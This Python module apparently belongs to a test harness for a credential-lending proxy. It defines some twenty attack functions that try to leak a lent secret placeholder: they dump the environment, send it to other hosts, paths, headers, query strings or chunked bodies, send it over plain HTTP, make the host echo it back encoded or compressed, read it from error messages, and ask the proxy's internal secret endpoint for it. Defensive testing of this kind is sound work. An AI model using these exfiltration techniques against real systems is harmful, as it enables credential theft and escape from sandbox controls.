"""Lent secrets: having the value sent where it was not lent to, or told to whoever is inside."""

import base64
import os
import re
from typing import Final

from workers.attacks.attack import Attack, Design
from workers.attacks.attempt import any_of
from workers.attacks.bait import Bait
from workers.attacks.proxied import get, listen, placeholder, reach, secured, talk

_MADE_UP: Final = f"signet:secret:lent:{'0' * 32}"


def inside(bait: Bait) -> str:
    """Find the value in the environment, where the placeholder stands."""
    return str(dict(os.environ))


def other_host(bait: Bait) -> str:
    """Send the placeholder to another host that may be reached."""
    return talk(bait, get("allowed.test", bait.sites["allowed"], "/open/x", f"Authorization: Bearer {placeholder()}"))


def other_host_by_name_in_tls(bait: Bait) -> str:
    """Send the placeholder in a tunnel that passes to another host, naming the one it is lent to."""
    with secured(bait, "passed.test", bait.sites["passed"], careful=False) as sock:
        sock.sendall(f"GET /api/x HTTP/1.1\r\nHost: lend.test\r\nAuthorization: {placeholder()}\r\n\r\n".encode())
        return listen(sock)


def other_path(bait: Bait) -> str:
    """Send the placeholder to another path of its host."""
    paths = ("/x", "/api/../x", "/api/%2e%2e/x", "/API/x", "/api")
    return any_of(lambda path: _lend(bait, path, f"Authorization: Bearer {placeholder()}"), paths)


def other_header(bait: Bait) -> str:
    """Send the placeholder in another header of its host."""
    names = ("X-Key", "Cookie", "Referer", "User-Agent", "Proxy-Authorization", "Authorization2")
    return any_of(lambda name: _lend(bait, "/api/x", f"{name}: {placeholder()}"), names)


def header_twice(bait: Bait) -> str:
    """Send the placeholder in its header and in a second one."""
    return _lend(bait, "/api/x", f"Authorization: {placeholder()}", f"X-Key: {placeholder()}")


def query(bait: Bait) -> str:
    """Send the placeholder in the query of its host, plain and escaped."""
    escaped = placeholder().replace(":", "%3A")
    return any_of(lambda text: _lend(bait, f"/api/x?token={text}"), (placeholder(), escaped))


def body(bait: Bait) -> str:
    """Send the placeholder in the body of a request to its host."""
    text = f"token={placeholder()}"
    return _lend(bait, "/api/x", f"Content-Length: {len(text)}", method="POST", body=text)


def body_in_pieces(bait: Bait) -> str:
    """Send the placeholder in the body, in chunks that cut it."""
    text = placeholder()
    chunks = "".join(f"{len(piece):x}\r\n{piece}\r\n" for piece in (text[:9], text[9:20], text[20:])) + "0\r\n\r\n"
    return _lend(bait, "/api/x", "Transfer-Encoding: chunked", method="POST", body=chunks)


def without_tls(bait: Bait) -> str:
    """Send the placeholder to its host without TLS, where the network reads it."""
    return talk(bait, get("lend.test", bait.sites["lend"], "/api/x", f"Authorization: Bearer {placeholder()}"))


def impostor(bait: Bait) -> str:
    """Send a placeholder to a host that cannot prove who it is."""
    token = os.environ["OTHER_TOKEN"]
    with secured(bait, "impostor.test", bait.sites["impostor"]) as sock:
        host = f"impostor.test:{bait.sites['impostor']}"
        sock.sendall(f"GET /api/x HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {token}\r\n\r\n".encode())
        return listen(sock)


def made_up(bait: Bait) -> str:
    """Send a placeholder that was made up."""
    return _lend(bait, "/api/x", f"Authorization: Bearer {_MADE_UP}")


def of_another_use(bait: Bait) -> str:
    """Send the placeholder of one host to another one."""
    return _lend(bait, "/api/x", f"Authorization: Bearer {os.environ['OTHER_TOKEN']}")


def echoed(bait: Bait) -> str:
    """Have its host send the value back."""
    return _lend(bait, "/api/x", f"Authorization: Bearer {placeholder()}")


def echoed_as_credentials(bait: Bait) -> str:
    """Have its host send the value back as it got it in basic credentials."""
    word = base64.b64encode(f"me:{placeholder()}".encode()).decode()
    answer = _lend(bait, "/api/x", f"Authorization: Basic {word}")
    return f"{answer} {_unwrapped(answer)}"


def echoed_in_pieces(bait: Bait) -> str:
    """Have its host send the value back in chunks of one byte."""
    answer = _lend(bait, "/api/chunked", f"Authorization: Bearer {placeholder()}")
    return "".join(re.findall(r"\r\n1\r\n(.)", answer, re.DOTALL)) or answer.replace("\r\n1\r\n", "")


def echoed_in_header(bait: Bait) -> str:
    """Have its host send the value back in a header, or in where to go next."""
    answers = [_lend(bait, path, f"Authorization: Bearer {placeholder()}") for path in ("/api/header", "/api/redirect")]
    return " ".join(answers)


def echoed_compressed(bait: Bait) -> str:
    """Have its host send the value back compressed."""
    import zlib

    headers = (f"Authorization: Bearer {placeholder()}", "Accept-Encoding: gzip")
    answer = _lend(bait, "/api/compressed", *headers).partition("\r\n\r\n")[2]
    try:
        return zlib.decompressobj(31).decompress(answer.encode("latin-1")).decode("latin-1")
    except zlib.error as error:
        raise OSError(f"what came is not compressed: {answer[:100]}") from error


def echoed_in_disguise(bait: Bait) -> str:
    """Have its host send the value back in another form."""
    answer = _lend(bait, "/api/disguised", f"Authorization: Bearer {placeholder()}")
    longest = max(re.findall(r"[A-Za-z0-9+/]+", answer.partition("\r\n\r\n")[2]), key=len)
    return base64.b64decode(longest + "==").decode("latin-1")


def shown_in_refusal(bait: Bait) -> str:
    """Provoke errors and read the value in them."""
    answers = []
    for lines in ("X: a\nb", "Content-Length: x", "Transfer-Encoding: y"):
        try:
            answers.append(_lend(bait, "/api/x", f"Authorization: Bearer {placeholder()}", lines))
        except OSError as error:
            answers.append(str(error))
    return " ".join(answers)


def lender(bait: Bait) -> str:
    """Ask the proxy for the router's door, which lends the values."""
    asks = ("POST /signet/v1/secrets/lent HTTP/1.1\r\nHost: signet\r\n\r\n", "GET unix:/door.sock HTTP/1.1\r\n\r\n")
    answers = [talk(bait, ask) for ask in asks]
    with reach(bait) as sock:
        sock.sendall(b'{"type":"load"}\n')
        answers.append(listen(sock))
    return " ".join(answers)


def _lend(bait: Bait, path: str, *headers: str, method: str = "GET", body: str = "") -> str:
    port = bait.sites["lend"]
    with secured(bait, "lend.test", port) as sock:
        sock.sendall((get("lend.test", port, path, *headers, method=method, form="origin") + body).encode("latin-1"))
        answer = listen(sock)
    if answer.startswith(("HTTP/1.1 4", "HTTP/1.1 5")) or not answer:
        raise ConnectionRefusedError(answer[:400])
    return answer


def _unwrapped(answer: str) -> str:
    found = re.findall(r"Basic ([A-Za-z0-9+/=]+)", answer)
    return " ".join(base64.b64decode(word).decode("latin-1") for word in found)


_VALUE: Final = "the secret that was lent"
_NEEDS: Final = ("egress",)
_TRUSTED: Final = Design(
    "who is lent a secret can tell it to anybody, in a form that nobody recognises: lend only to hosts that do not"
)

ATTACKS: Final = (
    Attack(inside, _VALUE, "secret", needs=_NEEDS),
    Attack(other_host, _VALUE, "host", needs=_NEEDS),
    Attack(other_host_by_name_in_tls, _VALUE, "host", needs=_NEEDS),
    Attack(other_path, _VALUE, "secret", needs=_NEEDS),
    Attack(other_header, _VALUE, "secret", needs=_NEEDS),
    Attack(header_twice, _VALUE, "secret", needs=_NEEDS),
    Attack(query, _VALUE, "secret", needs=_NEEDS),
    Attack(body, _VALUE, "secret", needs=_NEEDS),
    Attack(body_in_pieces, _VALUE, "secret", needs=_NEEDS),
    Attack(without_tls, _VALUE, "host", needs=_NEEDS),
    Attack(impostor, _VALUE, "host", needs=_NEEDS),
    Attack(made_up, _VALUE, "secret", needs=_NEEDS),
    Attack(of_another_use, _VALUE, "secret", needs=_NEEDS),
    Attack(echoed, _VALUE, "secret", needs=_NEEDS),
    Attack(echoed_as_credentials, _VALUE, "secret", needs=_NEEDS),
    Attack(echoed_in_pieces, _VALUE, "secret", needs=_NEEDS),
    Attack(echoed_in_header, _VALUE, "secret", needs=_NEEDS),
    Attack(echoed_compressed, _VALUE, "secret", needs=_NEEDS),
    Attack(echoed_in_disguise, _VALUE, "secret", needs=_NEEDS, design=_TRUSTED),
    Attack(shown_in_refusal, _VALUE, "secret", needs=_NEEDS),
    Attack(lender, _VALUE, "secret", needs=_NEEDS),
)
